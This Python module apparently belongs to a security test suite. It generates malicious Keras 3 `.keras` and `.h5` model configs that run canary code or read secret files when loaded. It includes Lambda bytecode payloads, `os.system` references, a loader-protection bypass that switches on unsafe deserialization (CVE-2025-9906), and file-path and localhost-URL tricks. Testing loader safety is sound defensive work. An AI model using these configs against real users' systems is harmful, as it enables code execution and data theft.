"""Attacks on the loader of Keras 3: configs of `.keras` and `.h5` files, written by hand."""

import json
from collections.abc import Callable
from typing import Any

from attacks import Attack, Canary, function, model_file

FORMS = (".keras", ".h5")
TENSOR = {
    "class_name": "__keras_tensor__",
    "config": {"shape": [None, 4], "dtype": "float32", "keras_history": ["i", 0, 0]},
}
INPUT = {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "i"}


def layer(form: str, name: str, config: dict[str, Any], module: str = "keras.layers", **more: Any) -> dict[str, Any]:
    made = {"class_name": name, "config": {"name": name.lower(), **config}, **more}
    return made if form == ".h5" else {"module": module, "registered_name": None, **made}


def sequential(form: str, *layers: Any, name: str = "model", shape: Any = (None, 4), **more: Any) -> dict[str, Any]:
    config = {"trainable": True, "layers": [layer(form, "InputLayer", {**INPUT, "batch_shape": shape}), *layers]}
    return layer(form, "Sequential", {**config, "name": name}, "keras", **more)


def functional(form: str, made: dict[str, Any], args: Any = None, kwargs: Any = None, **more: Any) -> dict[str, Any]:
    """A model that calls the layer `made` with these arguments; its input is also its output."""
    node = {"args": [TENSOR] if args is None else args, "kwargs": kwargs or {}}
    layers = [
        {**layer(form, "InputLayer", INPUT), "name": "i", "inbound_nodes": []},
        {**made, "name": made.get("name") or made["config"]["name"], "inbound_nodes": [node]},
    ]
    ends = {"input_layers": [["i", 0, 0]], "output_layers": [["i", 0, 0]]}
    config = {"name": "model", "trainable": True, "layers": layers, **ends}
    return layer(form, "Functional", config, "keras.src.models.functional", **more)


def lambda_layer(form: str, what: Any, **config: Any) -> dict[str, Any]:
    return layer(form, "Lambda", {"function": what, "arguments": {}, **config})


def bytecode(canary: Canary) -> dict[str, Any]:
    return {"class_name": "__lambda__", "config": {"code": canary.bytecode, "defaults": None, "closure": None}}


def bytecode_by_value(canary: Canary) -> dict[str, Any]:
    return {"class_name": "__lambda__", "config": {"value": [canary.bytecode, None, None]}}


def relu() -> dict[str, Any]:
    return function("keras.activations", "relu", "relu")


def called_with(form: str, what: Any, inputs: Any, **arguments: Any) -> dict[str, Any]:
    """A model that calls a function with values from the file, as in CVE-2025-8747."""
    return functional(form, lambda_layer(form, what, arguments=arguments), [], {"inputs": inputs})


# Anything other than Keras's own layers, functions and values, as an object in a config.
def objects(canary: Canary) -> dict[str, Any]:
    module = canary.module
    return {
        "bytecode": bytecode(canary),
        "bytecode_by_value": bytecode_by_value(canary),
        "function_of_os": function("os", "system", "system"),
        "function_of_a_module": function(module, "run"),
        "function_named_relu": function(module, "run", "relu"),
        "function_named_keras_relu": function(module, "run", "keras>relu"),
        "function_without_name": function(module, "run", None),
        "class_of_a_module": {"module": module, "class_name": "Thing", "config": {}, "registered_name": "Thing"},
        "class_named_dense": {"module": module, "class_name": "Thing", "config": {}, "registered_name": "Dense"},
        "typespec_of_a_module": {
            "class_name": "__typespec__", "spec_name": "Thing", "module": module, "registered_name": None, "config": [],
        },
        "load_model": function("keras.models", "load_model", "load_model"),
        "get_file": function("keras.utils", "get_file", "get_file"),
        "unsafe_switch": function("keras.config", "enable_unsafe_deserialization", "enable_unsafe_deserialization"),
        "plot_model": function("keras.utils", "plot_model", "plot_model"),
        "legacy_deserialize": function("keras.legacy.saving", "deserialize_keras_object", "deserialize_keras_object"),
        "saved_model_layer_as_function": function("keras.layers", "TFSMLayer", "TFSMLayer"),
        "callback": {"module": "keras.callbacks", "class_name": "CSVLogger", "config": {"filename": str(canary.ran)}},
        "imported_private_module": {"module": "keras.src.utils.file_utils", "class_name": "get_file", "config": {}},
        "class_of_tfopt_elsewhere": {
            "module": "keras_cv", "class_name": "tfopt>SavedModelLayer", "config": {}, "registered_name": None,
        },
        "keras_hub_lookalike": {"module": "keras_cv", "class_name": "Thing", "config": {}, "registered_name": None},
    }  # fmt: skip


# Places where a config holds objects; each makes a model's config from one.
def places(form: str) -> dict[str, Callable[[Any], Any]]:
    seq = lambda *layers: sequential(form, *layers)  # noqa: E731
    cell = lambda what: layer(form, "SimpleRNNCell", {"units": 2, "activation": what})  # noqa: E731
    inner = lambda what: sequential(form, lambda_layer(form, what), name="inner")  # noqa: E731
    dense = lambda **config: layer(form, "Dense", {"units": 4, **config})  # noqa: E731
    found = {
        "the_model": lambda what: what,
        "a_layer": lambda what: seq(what),
        "a_layer_of_a_functional": lambda what: functional(form, {**what, "name": "x"}),
        "lambda_function": lambda what: seq(lambda_layer(form, what)),
        "lambda_output_shape": lambda what: seq(lambda_layer(form, relu(), output_shape=what)),
        "lambda_mask": lambda what: seq(lambda_layer(form, relu(), mask=what)),
        "lambda_argument": lambda what: seq(lambda_layer(form, relu(), arguments={"negative_slope": what})),
        "time_distributed": lambda what: seq(
            layer(form, "TimeDistributed", {"layer": lambda_layer(form, what)}),
        ),
        "bidirectional": lambda what: seq(layer(form, "Bidirectional", {"layer": layer(form, "RNN",
            {"cell": cell(what)})})),
        "rnn_cell": lambda what: seq(layer(form, "RNN", {"cell": what})),
        "stacked_rnn_cells": lambda what: seq(layer(form, "RNN", {"cell": layer(form, "StackedRNNCells",
            {"cells": [what]})})),
        "spectral_normalization": lambda what: seq(layer(form, "SpectralNormalization", {"layer": what})),
        "nested_sequential": lambda what: seq(inner(what)),
        "twice_nested": lambda what: seq(sequential(form, inner(what), name="outer")),
        "nested_functional": lambda what: seq(functional(form, lambda_layer(form, what))),
        "pipeline": lambda what: seq(layer(form, "Pipeline", {"layers": [lambda_layer(form, what)]})),
        "call_argument": lambda what: functional(form, dense(), [what]),
        "call_keyword": lambda what: functional(form, dense(), kwargs={"training": what}),
        "call_nested_argument": lambda what: functional(form, dense(), [[TENSOR, {"deep": [what]}]]),
        "activation": lambda what: seq(dense(activation=what)),
        "initializer": lambda what: seq(dense(kernel_initializer=what)),
        "regularizer": lambda what: seq(dense(kernel_regularizer=what)),
        "activity_regularizer": lambda what: seq(dense(activity_regularizer=what)),
        "constraint": lambda what: seq(dense(kernel_constraint=what)),
        "dtype_policy": lambda what: seq(dense(dtype=what)),
        "quantization_config": lambda what: seq(dense(quantization_config=what)),
        "build_config": lambda what: sequential(form, dense(), build_config={"input_shape": [None, 4], "deep": what}),
        "activation_layer": lambda what: seq(layer(form, "Activation", {"activation": what})),
        "op_with_a_callable": lambda what: functional(form, layer(form, "Map", {"function": what, "f": what},
            "keras.src.ops.core")),
        "op_argument": lambda what: functional(form, layer(form, "Add", {}, "keras.src.ops.numpy"), [TENSOR, what]),
        "unknown_key_of_a_layer": lambda what: seq({**dense(), "also": what}),
        "unknown_key_of_a_config": lambda what: seq(dense(also=what)),
    }  # fmt: skip
    if form == ".keras":
        compiled = {
            "optimizer": lambda what: {"optimizer": what, "loss": "mse"},
            "loss": lambda what: {"optimizer": "sgd", "loss": what},
            "losses": lambda what: {"optimizer": "sgd", "loss": {"a": [what]}},
            "metric": lambda what: {"optimizer": "sgd", "loss": "mse", "metrics": [what]},
            "weighted_metric": lambda what: {"optimizer": "sgd", "loss": "mse", "weighted_metrics": [[what]]},
            "learning_rate": lambda what: {
                "optimizer": layer(form, "SGD", {"learning_rate": what}, "keras.optimizers"), "loss": "mse",
            },
            "loss_function": lambda what: {
                "optimizer": "sgd", "loss": layer(form, "LossFunctionWrapper", {"fn": what}, "keras.src.losses.losses"),
            },
            "metric_function": lambda what: {
                "optimizer": "sgd", "loss": "mse",
                "metrics": [layer(form, "MeanMetricWrapper", {"fn": what}, "keras.metrics")],
            },
        }  # fmt: skip
        for name, settings in compiled.items():
            found[f"compile_{name}"] = lambda what, made=settings: sequential(form, dense(), compile_config=made(what))
        nested = lambda what: sequential(form, dense(), name="inner", compile_config={"optimizer": "sgd", "loss": what})  # noqa: E731
        found["nested_compile_loss"] = lambda what: sequential(form, nested(what))
        found["feature_space"] = lambda what: layer(
            form, "FeatureSpace",
            {"features": {"a": what}, "output_mode": "dict", "crosses": [], "crossing_dim": 32,
                "preprocessors": {"a": what}},
            "keras.utils",
        )  # fmt: skip
    return found


def evil_saved_model(canary: Canary) -> str:
    """The path of a SavedModel that writes a file when loaded."""
    from attacks_saved_model import on_load

    on_load(canary.folder / "saved_model", canary)
    return str(canary.folder / "saved_model")


def found() -> list[Attack]:
    made = []

    def add(name: str, build: Callable[[str, Canary], Any], proof: Any = "", forms: tuple[str, ...] = FORMS) -> None:
        for form in forms:
            made.append(Attack(
                name, "keras3", form,
                lambda path, canary, form=form: model_file(path, build(form, canary), "keras3"),
                proof.get(form, "") if isinstance(proof, dict) else proof,
            ))  # fmt: skip

    add("lambda", lambda form, c: sequential(form, lambda_layer(form, bytecode(c))), "ran")
    add(
        "lambda_in_the_list_of_keras2",
        lambda form, c: sequential(
            form,
            layer(form, "Lambda", {"function": [c.bytecode, None, None], "function_type": "lambda", "module": "os"}),
        ),
        {".h5": "ran"},
    )
    add("lambda_as_the_model", lambda form, c: lambda_layer(form, bytecode(c)))
    add("lambda_in_time_distributed", lambda form, c: sequential(
        form, layer(form, "TimeDistributed", {"layer": lambda_layer(form, bytecode(c))}), shape=(None, 3, 4)),
        "ran", (".keras",))  # fmt: skip
    add("lambda_and_the_unsafe_switch", unsafe_first, "", (".keras",))

    # Functions of Keras's own API that belong to no model, called with arguments from the file.
    calls: dict[str, tuple[Any, Callable[[Canary], Any], Callable[[Canary], dict[str, Any]], str]] = {
        "plot_image_gallery": (
            function("keras.visualization", "plot_image_gallery", "plot_image_gallery"),
            lambda c: [[[[0.0, 0.0, 0.0]]]],
            lambda c: {"path": str(c.ran), "value_range": [0, 1], "rows": 1, "cols": 1}, "",
        ),
        "saved_model_by_path": (
            function("keras.layers", "TFSMLayer", "TFSMLayer"), evil_saved_model, lambda c: {}, "ran",
        ),
        "load_model": (function("keras.models", "load_model"), lambda c: str(c.folder),
            lambda c: {"safe_mode": False}, ""),
        "load_model_of_saving": (function("keras.saving", "load_model"), lambda c: str(c.folder), lambda c: {}, ""),
        "get_file": (
            function("keras.utils", "get_file"), lambda c: "ran",
            lambda c: {"origin": f"file://{c.secret}", "cache_dir": str(c.folder), "cache_subdir": "."}, "",
        ),
        "model_from_json": (
            function("keras.models", "model_from_json"),
            lambda c: json.dumps(sequential(".keras", lambda_layer(".keras", bytecode(c)))), lambda c: {}, "",
        ),
        "layers_deserialize": (
            function("keras.layers", "deserialize", "deserialize"), lambda c: None,
            lambda c: {"config": lambda_layer(".keras", bytecode(c))}, "",
        ),
        "legacy_deserialize": (
            function("keras.legacy.saving", "deserialize_keras_object", "deserialize_keras_object"),
            lambda c: "run", lambda c: {"module_objects": {"run": relu()}}, "",
        ),
        "map_over_a_tree": (
            function("keras.tree", "traverse", "traverse"),
            lambda c: function("keras.layers", "TFSMLayer", "TFSMLayer"), lambda c: {"structure": [str(c.folder)]}, "",
        ),
        "set_floatx": (function("keras.config", "set_floatx", "set_floatx"), lambda c: "float16", lambda c: {},
            "state"),
        "set_random_seed": (function("keras.utils", "set_random_seed", "set_random_seed"), lambda c: 1, lambda c: {},
            ""),
        "custom_objects": (function("keras.saving", "get_custom_objects", "get_custom_objects"), lambda c: None,
            lambda c: {}, ""),
        "file_editor": (function("keras.saving", "KerasFileEditor", "KerasFileEditor"), lambda c: str(c.secret),
            lambda c: {}, ""),
        "weights_by_path": (
            function("keras.applications.mobilenet", "MobileNet", "MobileNet"), lambda c: [32, 32, 3],
            lambda c: {"weights": str(c.secret)}, "",
        ),
        "dataset": (function("keras.datasets.mnist", "load_data", "load_data"), lambda c: "../ran", lambda c: {}, ""),
        "distribution": (
            function("keras.distribution", "initialize", "initialize"), lambda c: "127.0.0.1:9,127.0.0.1:9",
            lambda c: {"num_processes": 2, "process_id": 0}, "",
        ),
        "remote_monitor": (
            function("keras.callbacks", "RemoteMonitor", "RemoteMonitor"), lambda c: "http://127.0.0.1:9",
                lambda c: {}, "",
        ),
        "directory_iterator": (
            function("keras._legacy.preprocessing.image", "DirectoryIterator", "DirectoryIterator"),
            lambda c: str(c.folder),
            lambda c: {"image_data_generator": None}, "",
        ),
    }  # fmt: skip
    for name, (what, first, rest, seen) in calls.items():
        add(
            f"calls_{name}",
            lambda form, c, what=what, first=first, rest=rest: called_with(form, what, first(c), **rest(c)), seen,
        )  # fmt: skip

    # Layers that contain a program, or read a file, chosen by the attacker.
    programs = {
        "TFSMLayer": lambda c: {"filepath": evil_saved_model(c), "call_endpoint": "serving_default"},
        "TorchModuleWrapper": lambda c: {"module": {"class_name": "__bytes__", "config": {"value": "x"}}},
        "JaxLayer": lambda c: {"call_fn": bytecode(c), "init_fn": bytecode(c)},
        "FlaxLayer": lambda c: {"module": bytecode(c)},
        "StringLookup": lambda c: {"vocabulary": str(c.secret)},
        "IntegerLookup": lambda c: {"vocabulary": str(c.secret)},
        "TextVectorization": lambda c: {"vocabulary": str(c.secret)},
    }  # fmt: skip
    for name, config in programs.items():
        proof: Any = "secret" if "Lookup" in name else {".keras": "ran"} if name == "TFSMLayer" else ""
        add(
            f"layer_{name}",
            lambda form, c, name=name, config=config: sequential(form, layer(form, name, config(c))),
            proof,
        )
    add(
        "text_standardized_by_code",
        lambda form, c: sequential(form, layer(form, "TextVectorization", {"standardize": bytecode(c)})),
    )
    add(
        "text_split_by_a_module",
        lambda form, c: sequential(form, layer(form, "TextVectorization", {"split": function(c.module, "run")})),
    )
    add(
        "vocabulary_by_url",
        lambda form, c: sequential(form, layer(form, "StringLookup", {"vocabulary": "http://127.0.0.1:9/x"})),
    )
    add("saved_model_of_tfopt", lambda form, c: sequential(form, {
        **layer(form, "tfopt>SavedModelLayer" if form == ".h5" else "SavedModelLayer", {"folder": str(c.folder)}, None),
        **({} if form == ".h5" else {"registered_name": "tfopt>SavedModelLayer"}),
    }))  # fmt: skip
    for op in ("Map", "Scan", "AssociativeScan", "Cond", "WhileLoop", "VectorizedMap", "ForiLoop", "Switch"):
        add(
            f"operation_{op}",
            lambda form, c, op=op: functional(
                form, layer(form, op, {"f": bytecode(c), "cond": bytecode(c), "body": bytecode(c)},
                    "keras.src.ops.core"),
                [bytecode(c), TENSOR],
            ),
        )  # fmt: skip
    return made


def unsafe_first(form: str, canary: Canary) -> Any:
    """CVE-2025-9906: a first layer switches the protection off, a second one contains code."""
    switch = lambda_layer(form, function("keras.config", "enable_unsafe_deserialization"))
    model = functional(form, switch, [], {"inputs": "x"})
    model["config"]["layers"].append({**lambda_layer(form, bytecode(canary)), "name": "second", "inbound_nodes": []})
    return model


ATTACKS = found()
